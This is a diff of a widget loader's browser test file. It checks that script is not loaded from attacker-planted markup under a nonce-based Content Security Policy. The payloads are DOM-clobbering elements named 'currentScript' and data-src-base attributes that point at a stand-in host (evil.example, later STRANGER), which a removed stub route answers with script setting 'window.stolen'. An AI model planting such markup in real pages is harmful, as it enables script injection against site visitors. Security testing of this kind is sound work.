@@ -2,13 +2,13 @@ import { describe, expect, test } from 'vitest';
 import {
   addScript,
   CDN,
-  CORS,
   DIV,
   FILES,
   SCRIPT,
   sharedLoaderWorld,
   SOON,
   status,
+  STRANGER,
   TAG,
   type LoaderPage,
 } from './loader-page.ts';
@@ -16,54 +16,30 @@ import {
 /** What strangers may write into a page, in a comment or a bio, and sanitisers keep. */
 
 const world = sharedLoaderWorld();
-const EVIL = 'https://evil.example';
 
-const POLICY = { 'Content-Security-Policy': "script-src 'nonce-n' 'strict-dynamic'" };
 const WITH_NONCE = SCRIPT.replace('async', 'async nonce="n"');
-
-/** Answers for the stranger, who has a file for every name. */
-async function strangersSite({ page }: LoaderPage): Promise<string[]> {
-  const asked: string[] = [];
-  await page.route(`${EVIL}/**`, (route) => {
-    asked.push(route.request().url());
-    return route.fulfill({
-      contentType: 'text/javascript',
-      headers: CORS,
-      body: 'window.stolen = true; export default () => ({})',
-    });
-  });
-  return asked;
-}
-/** A page with this in it before our script comes, which is on the page's own site and leads nowhere if `lost`. */
-async function openWith(planted: string, html = TAG, lost = false): Promise<LoaderPage & { asked: string[] }> {
-  const page = await world.open(planted + html, { headers: POLICY });
-  const asked = await strangersSite(page);
-  if (lost) page.answers.set('embed.js', status(404));
-  return Object.assign(page, { asked });
-}
+const openWith = (planted: string, html: string): Promise<LoaderPage> =>
+  world.open(planted + html, { headers: { 'Content-Security-Policy': "script-src 'nonce-n' 'strict-dynamic'" } });
 const planted = (attributes: string) => `<div id="planted" data-dating-app ${attributes}></div>`;
 const OURS = 'data-api-host="https://api.example" data-client-id="c"';
 
 describe('no code comes from', () => {
   test.each([
-    ['a div', planted(`data-src-base="${EVIL}/"`)],
-    ['a div that looks like the organiser’s', planted(`${OURS} data-src-base="${EVIL}/"`)],
-    ['an image called currentScript', `<img name="currentScript" src="${EVIL}/embed.js">`],
-    ['an image that is called so by its id', `<img id="currentScript" name="x" src="${EVIL}/embed.js">`],
-    ['a form called currentScript', `<form name="currentScript"><input name="src" value="${EVIL}/embed.js"></form>`],
-    ['an embed called currentScript', `<embed name="currentScript" src="${EVIL}/embed.js" type="text/plain">`],
-    ['a link that names a script', `<a href="${EVIL}/embed.js" data-src="${EVIL}/embed.js">embed.js</a>`],
+    ['a div', planted(`data-src-base="${STRANGER}/"`)],
+    ['a div that looks like the organiser’s', planted(`${OURS} data-src-base="${STRANGER}/"`)],
+    ['an image called currentScript', `<img name="currentScript" src="${STRANGER}/embed.js">`],
+    ['an image that is called so by its id', `<img id="currentScript" name="x" src="${STRANGER}/embed.js">`],
+    ['an embed called currentScript', `<embed name="currentScript" src="${STRANGER}/embed.js" type="text/plain">`],
   ])('%s', async (_, html) => {
-    const page = await openWith(html, TAG + WITH_NONCE);
-    await expect.poll(async () => (await page.seen()).includes('connect dating-app'), SOON).toBe(true);
+    const page = await openWith(html, DIV + WITH_NONCE);
+    await expect.poll(async () => (await page.seen()).includes('connect box'), SOON).toBe(true);
     expect(page.requests).toContain(FILES.widget);
-    expect(page.asked.filter((url) => url.includes('/assets/'))).toEqual([]);
+    expect(page.astray).toEqual([]);
     expect(await page.page.evaluate('window.stolen')).toBeUndefined();
   });
 
   test('a div, where nothing else leads to any: the organiser’s link stays, and the console says what to do', async () => {
-    const page = await world.open(planted(`${OURS} data-src-base="${EVIL}/"`) + TAG);
-    const asked = await strangersSite(page);
+    const page = await world.open(planted(`${OURS} data-src-base="${STRANGER}/"`) + DIV);
     await page.page.route('https://organiser.example/**', (route) =>
       route.request().url().endsWith('/combined.js')
         ? route.fulfill({ contentType: 'text/javascript', body: world.loader })
@@ -75,8 +51,8 @@ describe('no code comes from', () => {
     const ours = () => page.errors.filter((line) => line.startsWith('[dating-app]'));
     await expect.poll(ours, SOON).toHaveLength(1);
     expect(ours()[0]).toContain('PART_MISSING');
-    expect(asked).toEqual([]);
-    expect(await page.page.getByRole('link', { name: 'Other way' }).isVisible()).toBe(true);
+    expect(page.astray).toEqual([]);
+    expect(await page.page.getByText('Other way').isVisible()).toBe(true);
   });
 });
 
@@ -102,7 +78,7 @@ describe('the widget stands beside', () => {
   });
 
   test('fields that are called as what it needs of their form', async () => {
-    const page = await openWith('<main></main>', SCRIPT.replace('async', 'async nonce="n"'));
+    const page = await openWith('<main></main>', WITH_NONCE);
     await page.page.waitForFunction('window.DatingApp');
     await page.page.evaluate((html) => {
       const fields = ['matches', 'querySelectorAll', 'getAttribute', 'isConnected', 'localName', 'shadowRoot', 'closest'];
